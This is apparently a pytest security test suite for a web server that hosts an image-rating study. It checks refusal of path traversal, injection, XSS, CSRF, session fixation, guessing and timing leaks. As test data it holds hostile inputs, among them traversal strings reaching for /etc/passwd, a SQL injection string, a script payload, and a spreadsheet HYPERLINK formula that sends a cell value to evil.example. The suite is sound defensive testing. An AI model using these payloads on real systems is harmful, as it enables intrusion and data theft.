"""Attacks on a served study: whoever tries gets one line, and nothing is changed or learnt."""

from __future__ import annotations

import asyncio
import csv
import io
import json
import time
import uuid
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import numpy as np
import pytest
from scipy.stats import mannwhitneyu

from popgan.study.answers import read_log
from popgan.study.refusals import Refusal
from popgan.study.server.limits import Limit, address_key
from study.served import BASE, LIKERT, OWN, House, Visitor, answer, served
from study.small_studies import make_study

TRAVERSALS = [
    "../key.json",
    "..%2f..%2fkey.json",
    "%2e%2e%2f%2e%2e%2fprivate%2fstudy%2fkey.json",
    "....//key.json",
    "..%5ckey.json",
    "%00",
    "key.json",
    "answers.sqlite",
    "study.js%00.png",
    "/etc/passwd",
    "%2fetc%2fpasswd",
    "en.yaml",
    "texts%2fen.yaml",
    "service.py",
]


@pytest.fixture
def house(tmp_path: Path) -> Iterator[House]:
    with served(make_study(tmp_path / "run")) as found:
        found.service.limits.guesses = Limit(1e6, 1e6)
        yield found


def stored(house: House) -> int:
    return house.service.reads.execute("SELECT count(*) FROM answer").fetchone()[0]


def code(reply: Any) -> tuple[int, str]:
    return reply.status_code, reply.json()["code"]


@pytest.mark.parametrize("route", ["/static/{}", "/api/stimuli/{}", "/r/{}", "/c/{}"])
def test_no_path_leads_out_of_a_route(house: House, route: str) -> None:
    reader = house.reader()
    for path in TRAVERSALS:
        reply = reader.client.get(route.format(path))
        assert reply.status_code == 404, (route, path)
        assert "root:" not in reply.text and "stimuli" not in reply.text


def test_files_and_cases_are_not_names_of_stimuli(house: House) -> None:
    reader = house.reader()
    for stimulus in house.study.key.stimuli:
        for name in (stimulus.file, stimulus.case, stimulus.file.removesuffix(".png")):
            assert reader.get(f"/api/stimuli/{name}").status_code == 404
    for guess in (uuid.uuid4().hex, "0" * 32, "f" * 32, "0", "0" * 400):
        assert reader.get(f"/api/stimuli/{guess}").status_code == 404


def test_another_readers_ids_are_unknown(house: House) -> None:
    reader = house.reader("R1")
    other = house.trials("practice", "R2")[0]
    assert code(reader.get(f"/api/stimuli/{other.stimuli[0]}")) == (404, "unknown")
    (refused,) = reader.answer(answer("practice", other.id))["refused"]
    assert refused["error"] == "there is no such trial in this block"
    assert stored(house) == 0
    assert other.id not in reader.get("/api/state").text


def test_nothing_sent_to_a_reader_tells_the_truth(house: House) -> None:
    reader = house.reader()
    for block in ("practice", "likert", "authenticity"):
        text = reader.get("/api/state").text
        for stimulus in house.study.key.stimuli:
            for secret in (stimulus.file, stimulus.case, stimulus.cluster):
                assert secret not in text
        assert '"source"' not in text and '"repeat"' not in text
        reader.finish(block)
    for visitor in (reader, house.visitor(), house.coordinator()):
        for path in ("/api/key", "/key.json", "/api/coordinator/key", "/private", "/.git/config"):
            assert visitor.get(path).status_code == 404
    text = house.coordinator().get("/api/coordinator/state").text
    assert all(s.case not in text and s.file not in text for s in house.study.key.stimuli)


def test_sending_an_answer_twice_stores_it_once(house: House) -> None:
    reader = house.reader()
    first, second = house.trials("practice")
    sent = answer("practice", first.id)
    for _ in range(3):
        assert reader.answer(sent, sent)["acknowledged"] == [sent["id"]] * 2
    assert stored(house) == 1
    changed = sent | {"values": LIKERT | {"anatomy": 1}}
    moved = sent | {"trial": second.id}
    assert [r["id"] for r in reader.answer(changed, moved)["refused"]] == [sent["id"]] * 2
    assert stored(house) == 1
    other = house.reader("R2")
    mine = sent | {"trial": house.trials("practice", "R2")[0].id}
    assert other.answer(mine)["acknowledged"] == [sent["id"]]  # ids are of one reader
    assert stored(house) == 2


@pytest.mark.parametrize(
    "change",
    [
        {"values": {"anatomy": 0}},
        {"values": {"anatomy": 6}},
        {"values": {"anatomy": True}},
        {"values": {"anatomy": 3.0}},
        {"values": {"anatomy": "3"}},
        {"values": {"anatomy": None}},
        {"values": {"anatomy": [3]}},
        {"values": {"anatomy": 10**400}},
        {"values": {"real": True}},
        {"values": {"__proto__": 1}},
        {"values": {"remark": 5}},
        {"values": {"remark": "x" * 2001}},
        {"values": {"remark": "\ud800"}},
        {"values": {"\ud800": 1}},
        {"values": []},
        {"values": None},
        {"id": "1"},
        {"id": "2c5ea4c0-4067-11e9-8bad-9b1deb4d3b7d"},
        {"id": 5},
        {"block": "likert"},
        {"block": "2afc"},
        {"block": "nonsense"},
        {"block": ["practice"]},
        {"trial": "0" * 32},
        {"trial": "' OR 1=1 --"},
        {"trial": None},
        {"shown_ms": -1},
        {"shown_ms": True},
        {"shown_ms": 1.5},
        {"shown_ms": 10**30},
        {"client_time": "yesterday"},
        {"client_time": "2026-01-01T00:00:00" + "0" * 50},
        {"extra": 1},
        {"reader": "R2"},
    ],
    ids=lambda change: json.dumps(change)[:40],
)
def test_a_forged_answer_is_refused_alone(change: dict[str, Any], shared_house: House) -> None:
    reader = shared_house.reader()
    before = stored(shared_house)
    good = answer("practice", shared_house.trials("practice")[0].id)
    bad = answer("practice", shared_house.trials("practice")[0].id) | change
    # ASCII, as a browser may send lone surrogates only in escapes.
    body = json.dumps({"answers": [bad, good]})
    headers = OWN | {"X-CSRF-Token": reader.csrf, "Content-Type": "application/json"}
    reply = reader.client.post("/api/answers", content=body, headers=headers)
    assert reply.status_code == 200, reply.text
    assert reply.json()["acknowledged"] == [good["id"]]
    (refused,) = reply.json()["refused"]
    assert 0 < len(refused["error"]) < 200 and "\n" not in refused["error"]
    assert stored(shared_house) == before + 1


@pytest.fixture(scope="module")
def shared_house(tmp_path_factory: pytest.TempPathFactory) -> Iterator[House]:
    with served(make_study(tmp_path_factory.mktemp("shared") / "run")) as found:
        found.service.limits.logins = Limit(1e6, 1e6)
        yield found


BODIES = {
    "not JSON": (b"{", 400),
    "not an object": (b"[]", 400),
    "NaN": (b'{"answers": [{"shown_ms": NaN}]}', 400),
    "infinity": (b'{"answers": [{"shown_ms": -Infinity}]}', 400),
    "key twice": (b'{"answers": [], "answers": []}', 400),
    "deep": (b'{"answers": ' + b"[" * 30000 + b"]" * 30000 + b"}", 400),
    "deep objects": (b'{"a":' * 10000 + b"1" + b"}" * 10000, 400),
    "huge number": (b'{"answers": [{"shown_ms": 1' + b"0" * 10000 + b"}]}", 400),
    "many answers": (b'{"answers": [' + b"{}," * 100 + b"{}]}", 400),
    "not text": (b"\xff\xfe\x00", 400),
    "empty": (b"", 400),
    "unknown key": (b'{"answers": [], "reader": "R2"}', 400),
    "too long": (b'{"answers": [' + b" " * 70000 + b"]}", 413),
}


@pytest.mark.parametrize("name", BODIES)
def test_a_hostile_body_is_refused_whole(name: str, shared_house: House) -> None:
    body, status = BODIES[name]
    reader = shared_house.reader()
    headers = OWN | {"X-CSRF-Token": reader.csrf, "Content-Type": "application/json"}
    reply = reader.client.post("/api/answers", content=body, headers=headers)
    assert reply.status_code == status
    assert set(reply.json()) == {"error", "code"}
    assert "Traceback" not in reply.text and len(reply.text) < 300


def test_a_body_without_a_length_is_cut_off_while_it_comes(house: House) -> None:
    reader = house.reader()
    sent = 0

    def endless() -> Iterator[bytes]:
        nonlocal sent
        yield b'{"answers": ["'
        for _ in range(10_000):
            sent += 1024
            yield b"x" * 1024

    headers = OWN | {"X-CSRF-Token": reader.csrf, "Content-Type": "application/json"}
    reply = reader.client.post("/api/answers", content=endless(), headers=headers)
    assert code(reply) == (413, "size")
    login = reader.client.post(house.links["R1"], content=b"x" * 5000, headers=OWN)
    assert login.status_code == 413
    lying = headers | {"Content-Length": "10"}
    reply = reader.client.post("/api/answers", content=b"x" * 70000, headers=lying)
    assert code(reply) == (413, "size")


def test_another_type_of_content_is_refused(house: House) -> None:
    reader = house.reader()
    for kind in ("text/plain", "application/x-www-form-urlencoded", "multipart/form-data", ""):
        headers = OWN | {"X-CSRF-Token": reader.csrf, "Content-Type": kind}
        reply = reader.client.post("/api/events", content=b'{"kind": "break"}', headers=headers)
        assert code(reply) == (415, "type")


def test_events_are_small_and_of_known_kinds(house: House) -> None:
    reader = house.reader()
    for event in (
        {"kind": "unlock"},
        {"kind": "break", "detail": {"a": "x" * 2000}},
        {"kind": "break", "detail": {"a": {"b": 1}}},
        {"kind": "break", "detail": [1]},
        {"kind": "break", "more": 1},
        {},
    ):
        assert code(reader.post("/api/events", event)) == (400, "format")
    assert reader.post("/api/events", {"kind": "break", "detail": {"n": 1}}).json() == {"ok": True}


SCRIPT = '<script>alert("x")</script><img src=x onerror=alert(1)>'


def test_a_script_in_a_remark_stays_data(house: House) -> None:
    reader = house.reader()
    trial = house.trials("practice")[0].id
    reader.answer(answer("practice", trial, LIKERT | {"remark": SCRIPT + "\x00\x1b[2J"}))
    reply = reader.get("/api/state")
    assert reply.headers["content-type"] == "application/json"
    assert reply.headers["x-content-type-options"] == "nosniff"
    assert reply.json()["blocks"][0]["trials"][0]["answer"]["remark"] == SCRIPT + "[2J"
    assert "'unsafe" not in reply.headers["content-security-policy"]


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t=", "  =", "\n="])
def test_a_formula_in_a_remark_is_none_in_the_export(shared_house: House, start: str) -> None:
    reader, coordinator = shared_house.reader(), shared_house.coordinator()
    trial = shared_house.trials("practice")[1].id
    formula = f'{start}HYPERLINK("http://evil.example?x="&A1)'
    reader.answer(answer("practice", trial, {"remark": formula}))
    reply = coordinator.get("/api/coordinator/export")
    assert "attachment" in reply.headers["content-disposition"]
    *_, row = csv.DictReader(io.StringIO(reply.text))
    assert row["remark"].startswith("'") and "HYPERLINK" in row["remark"]


def test_what_changes_something_must_come_from_our_page(house: House) -> None:
    reader, coordinator = house.reader(), house.coordinator()
    event = {"kind": "break"}
    for proof in ("", "0" * 64, "é", coordinator.csrf, house.reader("R2").csrf):
        headers = [*OWN.items(), ("X-CSRF-Token", proof.encode())]
        assert code(reader.client.post("/api/events", json=event, headers=headers)) == (403, "csrf")
    foreign: list[dict[str, str]] = [
        {"Origin": "http://evil.example"},
        {"Origin": "null"},
        {"Origin": ""},
        {"Origin": f"{BASE}.evil.example"},
        {"Origin": "http://127.0.0.1:9999"},
        {"Origin": BASE, "Sec-Fetch-Site": "cross-site"},
        {"Origin": BASE, "Sec-Fetch-Site": "same-site"},
        {},
    ]
    for headers in foreign:
        for who, path, body in (
            (reader, "/api/events", event),
            (coordinator, "/api/coordinator/lock", {"reader": None, "locked": True}),
            (coordinator, "/api/coordinator/link", {"reader": "R1"}),
        ):
            sent = {"X-CSRF-Token": who.csrf} | headers
            assert code(who.client.post(path, json=body, headers=sent)) == (403, "origin")
        assert house.visitor().client.post(house.links["R1"], headers=headers).status_code == 403
    assert reader.get("/api/state", **{"Sec-Fetch-Site": "cross-site"}).status_code == 403
    assert reader.get("/api/state").status_code == 200  # nobody's session was ended by all that


def test_a_foreign_name_pointed_at_this_machine_reaches_nothing(house: House) -> None:
    reader = house.reader()
    for host in (
        "evil.example",
        "evil.example:8000",
        "127.0.0.1.evil.example",
        "",
        "a@127.0.0.1",
        "[::1",
        "127.0.0.1/../x",
        "10.0.0.1",
    ):
        reply = reader.client.get("/api/state", headers={"Host": host})
        assert code(reply) == (400, "host"), host
    assert reader.get("/api/state", Host="localhost:1234").status_code == 200


def test_a_session_cannot_be_chosen_for_somebody(house: House) -> None:
    visitor = house.visitor()
    visitor.client.cookies.set("popgan_study", "A" * 43)
    visitor.enter(house.links["R1"])
    first = visitor.client.cookies.get("popgan_study", domain="127.0.0.1")
    assert first != "A" * 43
    visitor.enter(house.links["R1"])
    cookies = [c.value for c in visitor.client.cookies.jar if c.name == "popgan_study"]
    assert first not in cookies  # fresh at every login
    thief = house.visitor()
    thief.client.cookies.set("popgan_study", "A" * 43)
    assert code(thief.get("/api/state")) == (401, "session")
    thief.client.cookies.set("popgan_study", str(first))
    assert thief.get("/api/state").status_code in {401, 409}


def test_readers_and_coordinator_cannot_use_each_others_doors(house: House) -> None:
    reader, coordinator = house.reader(), house.coordinator()
    own = next(c.value for c in reader.client.cookies.jar)
    other = next(c.value for c in coordinator.client.cookies.jar)
    mixed = house.visitor()
    mixed.client.cookies.set("popgan_coordinator", str(own))
    mixed.client.cookies.set("popgan_study", str(other))
    for path in ("/api/coordinator/state", "/api/coordinator/export", "/api/state"):
        assert code(mixed.get(path)) == (401, "session")
    for alias, door in (("R1", "c"), ("coordinator", "r")):
        secret = house.links[alias].split("/")[2]
        assert house.visitor().enter(f"/{door}/{secret}").status_code == 404
    nobody = house.visitor()
    for path in ("/api/state", "/api/stimuli/x", "/api/coordinator/state"):
        assert code(nobody.get(path)) == (401, "session")


def test_secrets_are_long_and_stored_as_hashes_only(house: House) -> None:
    reader = house.reader()
    cookie = next(c.value for c in reader.client.cookies.jar)
    secrets = [link.split("/")[2] for link in house.links.values()] + [str(cookie)]
    assert len(set(secrets)) == len(secrets) and all(len(s) * 6 >= 192 for s in secrets)
    files = list(house.study.places.private.rglob("*")) + list(house.study.places.shared.rglob("*"))
    content = b"".join(path.read_bytes() for path in files if path.is_file())
    assert not any(s.encode() in content for s in [*secrets, reader.csrf])
    for path in house.study.places.private.glob("answers.sqlite*"):
        assert path.stat().st_mode & 0o077 == 0


def test_guessing_links_and_sessions_is_slow(tmp_path: Path) -> None:
    with served(make_study(tmp_path / "run")) as house:
        statuses = [house.visitor().get(f"/r/{'A' * 40}{n:03}").status_code for n in range(40)]
        assert statuses[:30] == [404] * 30 and set(statuses[30:]) == {429}
        assert house.visitor().get("/api/state").status_code == 429
        house.service.limits.guesses = Limit(30, 0.1)
        thief = house.visitor()
        thief.client.cookies.set("popgan_study", "B" * 43)
        assert [thief.get("/api/state").status_code for _ in range(31)] == [401] * 30 + [429]


def test_who_has_a_link_is_not_kept_out_by_a_neighbour_who_guesses(tmp_path: Path) -> None:
    with served(make_study(tmp_path / "run")) as house:
        reader = house.reader("R2")
        bad = [house.visitor().get(f"/r/{'A' * 40}{n:03}").status_code for n in range(40)]
        assert bad[-1] == 429
        assert house.visitor().get(house.links["R1"]).status_code == 200
        assert house.visitor().enter(house.links["R1"]).status_code == 303
        assert house.visitor().enter(house.links["coordinator"]).status_code == 303
        assert reader.get("/api/state").status_code == 200


def test_one_session_cannot_ask_without_end(house: House) -> None:
    reader, other = house.reader("R1"), house.reader("R2")
    house.service.limits.api = Limit(5, 0)
    assert [reader.get("/api/state").status_code for _ in range(7)] == [200] * 5 + [429] * 2
    assert other.get("/api/state").status_code == 200
    house.service.limits.logins = Limit(2, 0)
    entries = [house.visitor().enter(house.links["R1"]).status_code for _ in range(3)]
    assert entries == [303, 303, 429]


def test_limits_fill_up_and_forget_who_has_not_come_for_longest() -> None:
    now = [0.0]
    limit = Limit(2, 0.5, clock=lambda: now[0])
    limit.take("a")
    limit.take("a")
    with pytest.raises(Refusal, match="too many"):
        limit.take("a")
    limit.take("b")
    now[0] = 2.0
    limit.take("a")
    with pytest.raises(Refusal):
        limit.take("a")
    for n in range(10_001):
        limit.take(n)
    limit.take("a")
    assert address_key("2001:db8::1") == address_key("2001:db8::ffff") == "2001:db8::/64"
    assert address_key("::ffff:192.0.2.1") != address_key("::ffff:192.0.2.2")
    assert address_key("testclient") == "testclient"


def everything_shown(house: House) -> tuple[Visitor, dict[str, str]]:
    """A reader with all blocks open, and the truth of each stimulus id."""
    reader = house.reader()
    for block in ("practice", "likert", "authenticity"):
        reader.finish(block)
    sources = {stimulus.case: stimulus.source for stimulus in house.study.key.stimuli}
    truth = {
        trial.stimuli[0]: sources[trial.cases[0]]
        for trials in house.study.plan_of("R1").trials.values()
        for trial in trials
    }
    return reader, truth


def test_headers_are_the_same_for_all_stimuli_byte_for_byte(house: House) -> None:
    reader, truth = everything_shown(house)
    replies = {name: reader.get(f"/api/stimuli/{name}") for name in truth}
    assert {reply.status_code for reply in replies.values()} == {200}
    assert len({tuple(reply.headers.raw) for reply in replies.values()}) == 1
    assert len({len(reply.content) for reply in replies.values()}) == 1
    assert len({reply.content for reply in replies.values()}) == 8  # 6 and 2 of practice


def test_the_time_that_a_stimulus_takes_tells_nothing(tmp_path: Path) -> None:
    """Real against synthetic in an order drawn for each round, so drift touches both alike.

    An honest server fails this once in 10 000 runs. One that needs a fifth longer for real images
    is found out.
    """
    with served(make_study(tmp_path / "run", real=6, synthetic=6)) as house:
        house.service.limits.api = Limit(1e6, 1e6)
        reader, truth = everything_shown(house)
        (cookie,) = (f"{c.name}={c.value}" for c in reader.client.cookies.jar)
        times = asyncio.run(timed(house.app, cookie, truth))
        fifth = float(np.median(times["real"])) / 5

        async def slower(scope: Any, receive: Any, send: Any) -> None:
            ends = time.perf_counter() + fifth * (truth[scope["path"].split("/")[-1]] == "real")
            while time.perf_counter() < ends:
                pass
            await house.app(scope, receive, send)

        leaking = asyncio.run(timed(slower, cookie, truth))
    assert len(times["real"]) > 200
    assert mannwhitneyu(times["real"], times["popgan"]).pvalue > 1e-4
    assert mannwhitneyu(leaking["real"], leaking["popgan"]).pvalue < 1e-4


async def timed(app: Any, cookie: str, truth: dict[str, str]) -> dict[str, list[float]]:
    """Seconds that the application takes for each stimulus, by source; no network between."""
    rng = np.random.default_rng(5)
    times: dict[str, list[float]] = {"real": [], "popgan": []}
    headers = [(b"host", b"127.0.0.1:8000"), (b"cookie", cookie.encode())]
    scope = {"type": "http", "method": "GET", "query_string": b"", "headers": headers}
    scope |= {"client": ("127.0.0.1", 1), "server": ("127.0.0.1", 8000), "scheme": "http"}

    async def receive() -> dict[str, Any]:
        return {"type": "http.request", "body": b"", "more_body": False}

    async def send(message: dict[str, Any]) -> None:
        assert message.get("status", 200) == 200

    for _ in range(20):
        for name in map(str, rng.permutation(list(truth))):
            path = f"/api/stimuli/{name}"
            asked = scope | {"path": path, "raw_path": path.encode(), "root_path": ""}
            began = time.perf_counter()
            await app(asked, receive, send)
            times[truth[name]].append(time.perf_counter() - began)
    return times


def test_unknown_ids_of_every_kind_get_the_same_reply(house: House) -> None:
    reader = house.reader()
    names = [
        house.trials("likert")[0].stimuli[0],  # of a block that is not open
        house.trials("practice", "R2")[0].stimuli[0],  # another's
        "0" * 32,
    ]
    replies = [reader.get(f"/api/stimuli/{name}") for name in names]
    assert len({(r.status_code, r.content, tuple(r.headers.raw)) for r in replies}) == 1


def test_other_methods_do_nothing(house: House) -> None:
    reader = house.reader()
    for method in ("PUT", "DELETE", "PATCH", "OPTIONS", "TRACE"):
        for path in ("/api/answers", "/api/state", "/study", house.links["R1"]):
            reply = reader.client.request(method, path, headers=OWN | {"X-CSRF-Token": reader.csrf})
            assert reply.status_code == 405
            assert "access-control-allow-origin" not in reply.headers
    assert reader.client.head("/api/state").content == b""


def test_the_log_of_answers_cannot_be_rewritten(house: House) -> None:
    import sqlite3

    from popgan.study.database import changing

    house.reader().answer(answer("practice", house.trials("practice")[0].id))
    for statement in ("UPDATE answer SET content = '{}'", "DELETE FROM answer"):
        with pytest.raises(sqlite3.IntegrityError, match="never"), changing(house.study) as found:
            found.execute(statement)
    assert read_log(house.study)[0]["values"] == LIKERT
